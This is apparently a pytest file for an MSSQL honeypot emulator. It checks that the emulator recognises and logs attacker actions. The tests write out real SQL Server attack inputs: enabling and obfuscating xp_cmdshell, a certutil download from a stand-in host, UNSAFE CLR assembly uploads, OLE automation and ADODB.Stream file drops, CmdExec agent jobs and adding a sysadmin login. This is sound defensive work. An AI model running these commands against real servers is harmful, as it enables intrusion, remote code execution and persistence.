"""SQL Server: the login whose password can be read, procedures that run commands, and the ways in which a PE comes."""

from __future__ import annotations

import base64
import struct

import pytest

from eudaemon.events.catalogue import CommandEntered, ExploitRecognised, LoginTried
from eudaemon.protocols._base import Claim, HalfClosed
from eudaemon.protocols._database import WAITING_BYTES_MAX
from eudaemon.protocols._work import TURN_COMMANDS_MAX
from eudaemon.protocols.mssql import MsSql
from eudaemon.protocols.mssql.automation import OBJECTS_MAX
from eudaemon.protocols.mssql.batch import NESTING_MAX
from eudaemon.protocols.mssql.flow import STATEMENTS_MAX
from eudaemon.protocols.mssql.room import BATCH_BYTES_MAX
from eudaemon.protocols.mssql.server import server_of
from eudaemon.protocols.mssql.session import VARIABLES_MAX
from eudaemon.protocols.mssql.tds import MESSAGE_BYTES_MAX
from eudaemon.testing.script import Table, visit
from eudaemon.wire import Purse
from eudaemon.world.host import Host
from eudaemon.world.memory import Memory
from eudaemon.world.seed import Seed
from payload.servers import SIZES, content
from protocols.mssql_client import (
    PRELOGIN,
    SWITCHED_ON,
    Client,
    batch,
    body_of,
    call,
    login,
    nvarchar,
    packets,
    texts,
    varbinary,
)  # fmt: skip

HOST = Host.from_seed(Seed(b"test"))


def talk(host: Host = HOST, bytes_max: int = 24 << 20, memory: Memory | None = None) -> Table:
    return Table(MsSql(visit(host=host, port=1433, purse=Purse(bytes_max), memory=memory))).open()


def client(bytes_max: int = 24 << 20, memory: Memory | None = None) -> Client:
    return Client(talk(bytes_max=bytes_max, memory=memory))


def exploits(table: Table) -> list[tuple[str, str]]:
    return [(fact.name, fact.command) for fact in table.facts if isinstance(fact, ExploitRecognised)]


@pytest.mark.parametrize("split", [0, 1])
def test_a_login_tells_its_password(split: int) -> None:
    table = talk()
    answer = table.say(packets(0x12, PRELOGIN), split)
    major, minor, build = server_of(HOST).version
    assert body_of(answer)[-9:] == struct.pack(">BBHH", major, minor, build, 0) + b"\x02\0\0", "no encryption, no MARS"
    answer = table.say(login(password="P@ssw0rd"), split)
    assert LoginTried("sa", "P@ssw0rd", accepted=True) in table.facts
    assert "Changed database context to 'master'." in texts(answer)
    assert "Microsoft SQL Server" in texts(answer)
    for user, password, said in (
        ("joe", "joe", "Login failed for user 'joe'."),
        ("sa", "sä", "Login failed for user 'sa'."),
    ):
        table = talk()
        assert said in texts(table.say(login(user, password), split))
        assert [fact for fact in table.facts if isinstance(fact, LoginTried)] == [
            LoginTried(user, password, accepted=False)
        ]
        assert table.over
    table = talk()
    assert "untrusted domain" in texts(table.say(login(flags=0x80)))
    table = talk()
    assert 'Cannot open database "nosuch"' in texts(table.say(login(database="nosuch")))
    old = b"BOT".ljust(30, b"\0") + b"\3" + b"sa".ljust(30, b"\0") + b"\2" + b"secret".ljust(30, b"\0") + b"\6"
    table = talk()
    table.say(packets(2, old.ljust(512, b"\0")))
    assert LoginTried("sa", "secret", accepted=False) in table.facts


def test_what_is_off_is_switched_on_and_stays_so_for_this_address() -> None:
    memory = Memory()
    c = client(memory=memory)
    assert "SQL Server blocked access to procedure 'sys.xp_cmdshell'" in c.do(b"exec master..xp_cmdshell 'whoami'")
    assert "Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE" in c.do(SWITCHED_ON)
    for other in (c, client(memory=memory)):
        assert "nt service\\mssqlserver" in other.do(b"EXEC master.dbo.xp_cmdshell N'whoami'")
    assert exploits(c.table) == [("mssql-xp-cmdshell", "whoami")]
    assert CommandEntered("whoami") in c.table.facts
    assert "nt service" not in c.do(b"exec xp_cmdshell 'whoami', no_output")
    assert "nt service\\mssqlserver" in c.do(b"xp_cmdshell 'whoami'"), "the first of a batch needs no EXEC"
    for quoted in (b'"whoami"', b"[whoami]", b"whoami"):
        assert "nt service\\mssqlserver" in c.do(b"exec xp_cmdshell " + quoted), "a name is a text where a value stands"
    hidden = "0x" + "exec xp_cmdshell 'hostname'".encode("utf-16-le").hex()
    c.do(b"declare @a nvarchar(4000) set @a = 'exec xp_' + 'cmdshell ''hostname''' exec(@a)")
    c.do(f"DECLARE @b VARCHAR(8000);SET @b=CAST({hidden} AS VARCHAR(8000));".encode())
    assert exploits(c.table)[-1] == ("mssql-xp-cmdshell", "hostname")


def test_a_command_that_downloads_holds_up_what_follows() -> None:
    c = client()
    c.do(SWITCHED_ON)
    assert (
        c.do(b"exec xp_cmdshell 'certutil -urlcache -split -f http://198.51.100.7/a.exe c:\\a.exe' select 'after'")
        == ""
    )
    c.table.say(batch(b"select 'next'"))
    c.table.tell(HalfClosed(c.table.at_s))
    assert [wish.download.url for wish in c.table.wishes] == ["http://198.51.100.7/a.exe"]
    before = len(c.table.sent)
    c.table.answer("ok", b"MZ")
    answer = body_of(c.table.sent[before:])
    assert answer.index("after".encode("utf-16-le")) < answer.index("next".encode("utf-16-le"))
    assert c.table.over


@pytest.mark.parametrize("size", SIZES)
def test_an_assembly_arrives_byte_for_byte(size: int) -> None:
    c, data = client(), content(size)
    c.do(b"CREATE ASSEMBLY [Extra] AUTHORIZATION [dbo] FROM 0x%s WITH PERMISSION_SET = UNSAFE" % data.hex().encode())
    assert [(keep.data, keep.origin, keep.name) for keep in c.table.kept] == [(data, "upload", "Extra")]
    assert exploits(c.table) == [("mssql-clr-assembly", "Extra")]
    c.do(b"CREATE PROCEDURE [dbo].[run] @cmd NVARCHAR(MAX) AS EXTERNAL NAME [Extra].[StoredProcedures].[exec]")
    assert "nt service\\mssqlserver" in c.do(b"EXEC run 'whoami'")
    assert "Assembly 'Other' was not found" in c.do(b"create procedure p as external name Other.a.b")
    c.table.end()
    assert len(c.table.kept) == 1


@pytest.mark.parametrize("size", SIZES)
def test_a_file_by_ado_stream(size: int) -> None:
    c, data, step = client(), content(size), 2_000_000
    c.do(SWITCHED_ON)
    pieces = b"".join(b"exec sp_oamethod @s, 'Write', null, 0x%s " % data[at : at + step].hex().encode()
                      for at in range(0, size, step))  # fmt: skip
    c.do(b"declare @s int exec sp_oacreate 'ADODB.Stream', @s output exec sp_oasetproperty @s, 'Type', 1 "
         b"exec sp_oamethod @s, 'Open' " + pieces +
         b"exec sp_oamethod @s, 'SaveToFile', null, 'c:\\windows\\temp\\a.exe', 2 exec sp_oadestroy @s")  # fmt: skip
    assert [(keep.data, keep.name) for keep in c.table.kept] == [(data, "c:\\windows\\temp\\a.exe")]
    c.table.end()
    assert len(c.table.kept) == 1


@pytest.mark.parametrize("size", SIZES)
def test_bytes_as_a_parameter(size: int) -> None:
    c, data = client(), content(size)
    c.send(
        call(10, nvarchar("", b"create assembly a from @b"), nvarchar("", b"@b varbinary(max)"), varbinary("@b", data))
    )
    assert [keep.data for keep in c.table.kept] == [data]


@pytest.mark.parametrize("size", [0, 1, 4095, 4096, 4097, 65_536])
def test_a_file_by_echo(size: int) -> None:
    """Base64 in lines, and certutil, as is usual where there is no other way."""
    c, data = client(), content(size)
    c.do(SWITCHED_ON)
    encoded = base64.b64encode(data)
    for at in range(0, max(1, len(encoded)), 4000):
        c.do(b"exec xp_cmdshell 'echo %s>>c:\\windows\\temp\\a.b64'" % encoded[at : at + 4000])
    c.do(b"exec xp_cmdshell 'certutil -decode c:\\windows\\temp\\a.b64 c:\\windows\\temp\\a.exe'")
    c.do(b"exec xp_cmdshell 'c:\\windows\\temp\\a.exe'")
    c.table.end()
    if size:
        assert data in [keep.data for keep in c.table.kept]
    assert not c.table.fault


def test_ole_automation() -> None:
    c = client()
    assert "blocked access to procedure 'sys.sp_OACreate' of component 'Ole Automation Procedures'" in c.do(
        b"declare @o int exec sp_oacreate 'wscript.shell', @o out"
    )
    c.do(SWITCHED_ON)
    c.do(
        b"declare @o int exec sp_oacreate 'wscript.shell', @o out exec sp_oamethod @o, 'run', null, 'cmd /c echo "
        b"hi>c:\\a.txt'"
    )
    assert exploits(c.table) == [("mssql-ole-automation", "cmd /c echo hi>c:\\a.txt")]
    assert "hi" in c.do(b"exec xp_cmdshell 'type c:\\a.txt'")
    answer = c.do(b"declare @o int, @p int, @t int, @s varchar(8000) exec sp_oacreate 'WScript.Shell', @o output "
                  b"exec sp_oamethod @o, 'exec', @p out, 'whoami' exec sp_oamethod @p, 'StdOut', @t out "
                  b"exec sp_oamethod @t, 'readall', @s out select @s")  # fmt: skip
    assert "nt service\\mssqlserver" in answer
    c.do(b"declare @f int, @t int exec sp_oacreate 'Scripting.FileSystemObject', @f out exec sp_oamethod @f, "
         b"'CreateTextFile', @t out, 'c:\\x.vbs', 1 exec sp_oamethod @t, 'WriteLine', null, 'a = 1' exec sp_oamethod "
         b"@t, "
         b"'Close'")  # fmt: skip
    assert [(keep.data, keep.name) for keep in c.table.kept][-1] == (b"a = 1\r\n", "c:\\x.vbs")
    c.do(b"declare @h int exec sp_oacreate 'Microsoft.XMLHTTP', @h out exec sp_oamethod @h, 'Open', null, 'GET', "
         b"'http://198.51.100.7/a.exe', 0 exec sp_oamethod @h, 'Send'")  # fmt: skip
    assert [wish.download.url for wish in c.table.wishes] == ["http://198.51.100.7/a.exe"]
    c.do(b"declare @s int exec sp_oacreate 'adodb.stream', @s out exec sp_oamethod @s, 'write', null, 0x4d5a")
    c.table.end()
    assert (b"MZ", True) in [(keep.data, keep.partial) for keep in c.table.kept]
    c = client()
    c.do(SWITCHED_ON)
    answer = c.do(b"declare @o int, @i int, @r int set @i = 0 while @i < %d begin exec @r = sp_oacreate "
                  b"'wscript.shell', @o "
                  b"out set @i = @i + 1 end select concat('r', @r)" % OBJECTS_MAX)  # fmt: skip
    assert "r0" in answer
    assert "r-2147221005" in c.do(
        b"declare @o int, @r int exec @r = sp_oacreate 'wscript.shell', @o out select concat('r', @r)"
    )


def test_jobs_and_logins() -> None:
    c = client()
    c.do(b"use msdb exec sp_add_job @job_name = 'j' exec sp_add_jobstep @job_name = 'j', @step_name = 's', "
         b"@subsystem = "
         b"'CmdExec', @command = 'whoami' exec sp_start_job 'j'")  # fmt: skip
    assert exploits(c.table) == [("mssql-agent-job", "cmdexec whoami")]
    assert CommandEntered("whoami") in c.table.facts
    c.do(b"exec sp_addlogin 'vice', 'Gm@2024' exec sp_addsrvrolemember 'vice', 'sysadmin'")
    assert "vice" in c.do(b"select name from master..syslogins where name like 'v%'")


# What such servers say in public: year, the Windows they are on, and what they take it for.
ON = {
    (2008, "Windows 7 Professional"): "Windows NT 6.1 <X64> (Build 7601: Service Pack 1)",
    (2008, "Windows Server 2012 R2 Standard"): "Windows NT 6.2 <X64> (Build 9200: )",
    (2008, "Windows 10 Pro"): "Windows NT 6.2 <X64> (Build 9200: )",
    (2012, "Windows Server 2012 R2 Standard"): "Windows NT 6.3 <X64> (Build 9600: )",
    (2014, "Windows Server 2016 Standard"): "Windows NT 6.3 <X64> (Build 14393: )",
    (2014, "Windows 10 Pro"): "Windows NT 6.3 <X64> (Build 19045: )",
    (2016, "Windows Server 2016 Standard"): "Windows Server 2016 Standard 10.0 <X64> (Build 14393: )",
}


def test_an_old_server_does_not_know_the_newer_windows_that_it_is_on() -> None:
    servers = [server_of(Host.from_seed(Seed(f"windows {number}".encode()))) for number in range(200)]
    said = {
        (int(one.title[:4]), one.windows.release.name): one.banner.decode().split(" on ")[-1].strip() for one in servers
    }
    assert {key: said[key] for key in ON} == ON


def test_what_is_said_of_itself() -> None:
    c = client()
    answer = c.do(b"select @@version, @@servername, serverproperty('ProductVersion'), is_srvrolemember('sysadmin')")
    for part in (server_of(HOST).number, server_of(HOST).name, "Copyright (c) Microsoft Corporation"):
        assert part in answer
    for name in ("master", "tempdb", "model", "msdb"):
        assert name in c.do(b"select name from master.dbo.sysdatabases")
    assert "right" in c.do(
        b"if exists (select * from sys.databases where name = 'nosuch') select 'wrong' else select 'right'"
    )
    assert "right" in c.do(b"if object_id('nosuch') is not null begin select 'wrong' end else begin select 'right' end")
    assert "Could not find stored procedure 'nosuch'." in c.do(b"exec nosuch 1")
    assert "Invalid object name 'nosuch'." in c.do(b"select * from nosuch")
    assert "right" in c.do(b"select 1 union select 1e400 select 'right'"), "what is too large is the largest there is"
    assert 'Must declare the scalar variable "@a".' in c.do(b"select @a")
    assert "Incorrect syntax near ')'." in c.do(b"select )")
    assert "x3y" in c.do(
        b"declare @t table (a int, b varchar(9)) insert into @t values (3, 'y') select concat('x', a, b) from @t"
    )
    assert "caught" in c.do(b"begin try print 'caught' end try begin catch print 'wrong' end catch")
    servers = [server_of(Host.from_seed(Seed(b"%d" % number))) for number in range(24)]
    assert len({server.version for server in servers}) > 4
    assert len({server.name for server in servers}) == 24


def test_older_clients() -> None:
    table = talk()
    table.say(login(version=0x71000001))
    assert b"Hi\0".hex() not in table.sent.hex()
    answer = body_of(table.say(batch(b"select 1 as a", headers=b"")))
    assert answer.startswith(b"\x81\1\0" + struct.pack("<HH", 0, 9) + b"\x26\x08\1a\0\xd1\x08\1" + bytes(7) + b"\xfd")


def test_what_a_batch_may_tell() -> None:
    """A loop of selects, each of which may give 200 KiB."""
    c = client()
    loop = (b"declare @i int set @i = 0 while @i < %d begin select replicate('x', 4000), replicate('x', 4000) "
            b"set @i = @i + 1 end")  # fmt: skip
    for turns in (60, BATCH_BYTES_MAX // 8000):
        before = len(c.table.sent)
        c.send(batch(loop % turns))
        told = len(c.table.sent) - before
        assert told == pytest.approx(min(turns * 16_000, BATCH_BYTES_MAX), rel=0.03), turns
    assert "after" in c.do(b"select 'after'")


def test_limits() -> None:
    for past in (0, 1):
        c = client()
        c.do(b"declare @i int set @i = 0 while @i < %d set @i = @i + 1" % (STATEMENTS_MAX - 3 + past))
        assert bool(c.table.fault) == bool(past)
        c = client()
        all_of_it = b"select * from sys.databases a, sys.databases b, sys.databases c, sys.databases d, sys.databases e"
        c.do(b"while 1=1 " + all_of_it)
        assert not c.table.fault, "the rows come to too much before the statements do"
        c = client()
        c.do(SWITCHED_ON)
        loop = (
            b"declare @i int set @i = 0 while @i < %d begin exec xp_cmdshell 'whoami' set @i = @i + 1 end print 'end'"
        )
        before = len(c.table.sent)
        assert ("end" in c.do(loop % (TURN_COMMANDS_MAX - 1 + past))) is not bool(past)
        c.table.wait(0)  # the others had their turn
        said = texts(c.table.sent[before:])
        assert said.count("mssqlserver") == TURN_COMMANDS_MAX - 1 + past
        assert "end" in said
        names = b" ".join(b"declare @v%d int" % number for number in range(VARIABLES_MAX + past))
        assert ("Could not allocate space" in c.do(names)) == bool(past)
        inner = b"select 'bottom'"
        for _ in range(NESTING_MAX + past):
            inner = b"exec('%s')" % inner.replace(b"'", b"''")
        assert ("bottom" in client().do(inner)) is not bool(past)
        c = client()
        c.do(b"waitfor delay '00:00:20'")
        c.table.say(bytes(WAITING_BYTES_MAX))
        assert not c.table.fault
        c.table.say(bytes(past))
        assert bool(c.table.fault) == bool(past)
        c = client(bytes_max=64 << 20)
        c.do(b"--" + b"a" * (MESSAGE_BYTES_MAX - 2 + past))
        assert bool(c.table.fault) == bool(past)
    c = client()
    c.table.say(packets(6, b"") * (MsSql.messages_max - 2))
    assert not c.table.fault
    c.table.say(packets(6, b""))
    assert c.table.fault == f"more than {MsSql.messages_max} messages in one session"
    for data in (b"\x01\x01\0\x07\0\0\0\0", packets(1, b""), b"\x10\x01\0\x08\0\0\0\0"):
        table = talk()
        table.say(data)
        assert table.fault


def test_whose_conversation_it_is() -> None:
    assert MsSql.claim(packets(0x12, PRELOGIN)) is Claim.YES
    assert MsSql.claim(b"\x12") is MsSql.claim(login()[:8]) is Claim.UNSURE
    assert MsSql.claim(b"GET / HTTP/1.0\r\n") is Claim.NO
